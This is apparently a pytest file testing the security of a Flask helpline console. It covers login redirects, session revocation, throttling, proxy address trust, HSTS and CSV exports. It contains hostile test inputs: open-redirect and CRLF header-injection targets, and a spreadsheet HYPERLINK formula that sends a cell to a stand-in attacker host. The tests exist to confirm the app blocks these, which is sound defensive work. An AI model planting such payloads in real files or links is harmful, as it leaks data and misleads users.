"""Locked doors of the console: redirects after login, sessions that really end, throttling without a
lock-out switch, addresses read from trusted proxies only, HSTS over https, and downloads in which no
name runs as a spreadsheet formula."""

from __future__ import annotations

import csv
import dataclasses
import io
from collections.abc import Iterator

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import Engine, select
from sqlalchemy.orm import Session, sessionmaker
from werkzeug.test import TestResponse

from call_log.record import add_referral, open_manual_contact
from console.accounts import MAX_FAILURES_PER_ADDRESS, MAX_FAILURES_PER_USER, set_active, set_password
from directory.models import Association
from foundation.config import Config
from foundation.settings import Settings, SettingsError
from helpline.app import create_app
from tests.conftest import FakeClock
from tests.console.conftest import PASSWORD, Browser
from tests.report_dataset import BAD

COOKIE = "helpline_session"
# Documentation address ranges (RFC 5737): an attacker, a user, and the reverse proxy in front of both.
ATTACKER, USER, PROXY = "198.51.100.7", "203.0.113.5", "192.0.2.1"


@pytest.fixture
def proxied_app(
    engine: Engine, settings: Settings, example_config: Config, clock: FakeClock, accounts: dict[str, str]
) -> Iterator[Flask]:
    """The app behind one trusted reverse proxy (HELPLINE_TRUSTED_PROXIES=1)."""
    app = create_app(dataclasses.replace(settings, trusted_proxies=1), config=example_config, clock=clock)
    app.config["TESTING"] = True
    yield app
    app.extensions["helpline"].engine.dispose()


def login_from(client: FlaskClient, username: str, password: str, **environ: str) -> TestResponse:
    """POST the login form with the token of the login page, from the connection `environ` describes."""
    browser = Browser(client)
    token = browser.token("/login")
    return client.post(
        "/login",
        data={"username": username, "password": password, "csrf_token": token},
        environ_overrides=environ,
    )


def via_proxy(client_address: str) -> dict[str, str]:
    """The connection of a request the proxy forwards for `client_address`."""
    return {"REMOTE_ADDR": PROXY, "HTTP_X_FORWARDED_FOR": client_address}


@pytest.mark.parametrize(
    "target",
    [
        "/\t/evil.example",
        "/\n/evil.example",
        "/\r\nSet-Cookie: x=y",
        "\t//evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "//evil.example",
        "https://evil.example/",
        "javascript:alert(1)",
        "evil.example",
        "/log\x00",
        "/log\x7f",
    ],
)
def test_login_never_redirects_off_site(browser: Browser, target: str) -> None:
    """A `next` that a browser would read as another site, or with control characters, lands on /."""
    response = browser.client.post(
        "/login",
        query_string={"next": target},
        data={"username": "olivia", "password": PASSWORD, "csrf_token": browser.token("/login")},
    )
    assert response.status_code == 302
    assert response.headers["Location"] == "/"


def test_login_keeps_a_same_site_path_with_its_query(browser: Browser) -> None:
    """A path of this site, query string included, is where the login goes."""
    response = browser.client.post(
        "/login",
        query_string={"next": "/log?text=a%20b&start=2026-11-01"},
        data={"username": "olivia", "password": PASSWORD, "csrf_token": browser.token("/login")},
    )
    assert response.headers["Location"] == "/log?text=a%20b&start=2026-11-01"


def copy_of_cookie(browser: Browser, app: Flask) -> FlaskClient:
    """Another client holding a copy of the browser's session cookie (as a thief would)."""
    cookie = browser.client.get_cookie(COOKIE)
    assert cookie is not None
    thief = app.test_client()
    thief.set_cookie(COOKIE, cookie.value)
    return thief


@pytest.mark.parametrize("ending", ["logout", "password", "disabled"])
def test_a_copied_cookie_stops_working_when_the_session_ends(
    app: Flask, browser: Browser, sessions: sessionmaker[Session], ending: str
) -> None:
    """Sign-out, a new password or a disabled account end the session on the server, not in one browser."""
    assert browser.login("olivia").status_code == 302
    thief, later_thief = copy_of_cookie(browser, app), copy_of_cookie(browser, app)
    assert thief.get("/").status_code == 200
    if ending == "logout":
        assert browser.post("/logout", {}).headers["Location"] == "/login"
    else:
        with sessions() as session, session.begin():
            if ending == "password":
                set_password(session, "olivia", "a new long password")
            else:
                set_active(session, "olivia", active=False)
    answer = thief.get("/")
    assert answer.status_code == 302
    assert answer.headers["Location"] == "/login?next=/"
    if ending == "disabled":
        with sessions() as session, session.begin():
            set_active(session, "olivia", active=True)
        # Enabled again, the account does not bring its old sessions back.
        assert later_thief.get("/").status_code == 302


def test_sign_out_ends_the_sessions_on_every_device(browser: Browser, app: Flask) -> None:
    """Signing out on one computer signs the same user out on the others (one session version per user)."""
    assert browser.login("olivia").status_code == 302
    other = Browser(app.test_client())
    assert other.login("olivia").status_code == 302
    assert browser.post("/logout", {}).status_code == 302
    assert other.get("/").status_code == 302
    assert other.login("olivia").status_code == 302  # and signing in again works
    assert other.get("/").status_code == 200


def test_a_csrf_token_from_before_login_is_void_after_it(browser: Browser) -> None:
    """The CSRF secret changes at sign-in: a token planted before login cannot post a form after it."""
    before = browser.token("/login")
    response = browser.client.post(
        "/login", data={"username": "olivia", "password": PASSWORD, "csrf_token": before}
    )
    assert response.status_code == 302
    refused = browser.client.post("/logout", data={"csrf_token": before})
    assert refused.status_code == 400
    assert browser.get("/").status_code == 200  # still signed in
    assert browser.post("/logout", {}).status_code == 302  # with the new token


def test_failures_from_one_address_do_not_lock_the_user_out_elsewhere(browser: Browser) -> None:
    """Five wrong passwords from an attacker's address: the real user signs in from theirs."""
    for _ in range(MAX_FAILURES_PER_USER):
        assert login_from(browser.client, "olivia", "wrong password", REMOTE_ADDR=ATTACKER).status_code == 401
    throttled = login_from(browser.client, "olivia", PASSWORD, REMOTE_ADDR=ATTACKER)
    assert throttled.status_code == 429
    assert "Trop de tentatives échouées. Réessayez dans 15 minutes." in throttled.get_data(as_text=True)
    assert login_from(browser.client, "olivia", PASSWORD, REMOTE_ADDR=USER).status_code == 302


def test_without_trusted_proxies_forwarded_addresses_are_ignored(browser: Browser) -> None:
    """With HELPLINE_TRUSTED_PROXIES=0 a client cannot pick a new address for each guess."""
    for attempt in range(MAX_FAILURES_PER_USER):
        environ = {"REMOTE_ADDR": ATTACKER, "HTTP_X_FORWARDED_FOR": f"192.0.2.{100 + attempt}"}
        assert login_from(browser.client, "olivia", "wrong password", **environ).status_code == 401
    environ = {"REMOTE_ADDR": ATTACKER, "HTTP_X_FORWARDED_FOR": "192.0.2.200"}
    assert login_from(browser.client, "olivia", PASSWORD, **environ).status_code == 429


def test_behind_the_proxy_one_address_failing_locks_only_that_address(proxied_app: Flask) -> None:
    """Through a trusted proxy, twenty failures from one client throttle that client, not everyone."""
    client = proxied_app.test_client()
    for attempt in range(MAX_FAILURES_PER_ADDRESS):
        wrong = login_from(client, f"guess{attempt}", "wrong password", **via_proxy(ATTACKER))
        assert wrong.status_code == 401
    assert login_from(client, "ada", PASSWORD, **via_proxy(ATTACKER)).status_code == 429
    assert login_from(client, "ada", PASSWORD, **via_proxy(USER)).status_code == 302


def test_behind_the_proxy_a_client_cannot_forge_its_address(proxied_app: Flask) -> None:
    """Only the hop the trusted proxy added counts: an X-Forwarded-For the client wrote is not believed."""
    client = proxied_app.test_client()
    for attempt in range(MAX_FAILURES_PER_USER):
        forged = via_proxy(f"192.0.2.{100 + attempt}, {ATTACKER}")
        assert login_from(client, "olivia", "wrong password", **forged).status_code == 401
    assert login_from(client, "olivia", PASSWORD, **via_proxy(f"192.0.2.99, {ATTACKER}")).status_code == 429
    assert login_from(client, "olivia", PASSWORD, **via_proxy(USER)).status_code == 302


@pytest.mark.parametrize(
    ("base_url", "environ", "hsts"),
    [
        ("https://localhost", {}, True),
        ("http://localhost", {}, False),
        ("http://localhost", {"HTTP_X_FORWARDED_PROTO": "https"}, False),  # nobody trusted said so
    ],
)
def test_hsts_only_over_https(browser: Browser, base_url: str, environ: dict[str, str], hsts: bool) -> None:
    """Strict-Transport-Security is sent over https only, on pages and webhooks alike."""
    for path in ("/login", "/health"):
        response = browser.client.get(path, base_url=base_url, environ_overrides=environ)
        expected = "max-age=31536000; includeSubDomains" if hsts else None
        assert response.headers.get("Strict-Transport-Security") == expected, path


def test_hsts_behind_a_trusted_proxy_that_says_https(proxied_app: Flask) -> None:
    """Behind the trusted proxy, the scheme it forwards decides."""
    client = proxied_app.test_client()
    secure = client.get("/login", environ_overrides={**via_proxy(USER), "HTTP_X_FORWARDED_PROTO": "https"})
    assert secure.headers["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains"
    plain = client.get("/login", environ_overrides={**via_proxy(USER), "HTTP_X_FORWARDED_PROTO": "http"})
    assert "Strict-Transport-Security" not in plain.headers


@pytest.mark.parametrize(("raw", "count"), [("", 0), ("0", 0), ("1", 1), (" 2 ", 2)])
def test_trusted_proxies_setting(raw: str, count: int) -> None:
    """HELPLINE_TRUSTED_PROXIES is a small whole number, 0 when unset."""
    assert Settings.from_env({"HELPLINE_TRUSTED_PROXIES": raw}).trusted_proxies == count


@pytest.mark.parametrize("raw", ["-1", "one", "1.5", "11", "²"])
def test_trusted_proxies_setting_refuses_other_values(raw: str) -> None:
    """A value that is not a count of proxies stops the start with a French sentence naming the variable."""
    with pytest.raises(SettingsError) as error:
        Settings.from_env({"HELPLINE_TRUSTED_PROXIES": raw})
    assert str(error.value) == (
        f"HELPLINE_TRUSTED_PROXIES doit être un nombre entier entre 0 et 10 (valeur reçue : « {raw} »)"
    )


# A link that sends the neighbouring cell to another site when clicked, once the file is opened.
EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Aide")'


@pytest.fixture
def evil_referral(sessions: sessionmaker[Session], clock: FakeClock) -> None:
    """A call put through to, and referred to, an association named like a formula."""
    with sessions() as session, session.begin():
        association = session.scalars(select(Association).where(Association.name == BAD)).one()
        association.name = EVIL
        call = open_manual_contact(
            session, channel="phone", started_at=clock(), caller="", by="olivia", now=clock()
        )
        call.association = association
        add_referral(session, call, association, by="olivia", now=clock())


@pytest.mark.usefixtures("evil_referral")
@pytest.mark.parametrize(("query", "delimiter"), [("", ";"), ("?format=donnees", ",")])
def test_log_export_keeps_a_formula_name_text(as_staff: Browser, query: str, delimiter: str) -> None:
    """In /log/export.csv, either form, the association's name starts with its protective apostrophe."""
    body = as_staff.get(f"/log/export.csv{query}").get_data().decode("utf-8-sig")
    [row] = list(csv.reader(io.StringIO(body), delimiter=delimiter))[1:]
    assert row[-2:] == ["'" + EVIL, "'" + EVIL]  # the association that took the call, the referral


@pytest.mark.usefixtures("evil_referral")
@pytest.mark.parametrize(("query", "delimiter"), [("", ";"), ("?format=donnees", ",")])
def test_directory_export_keeps_a_formula_name_text(as_staff: Browser, query: str, delimiter: str) -> None:
    """In /directory/export.csv, either form, the name starts with its protective apostrophe."""
    body = as_staff.get(f"/directory/export.csv{query}").get_data().decode("utf-8-sig")
    names = [row[0] for row in csv.reader(io.StringIO(body), delimiter=delimiter)][1:]
    assert "'" + EVIL in names
    assert EVIL not in names
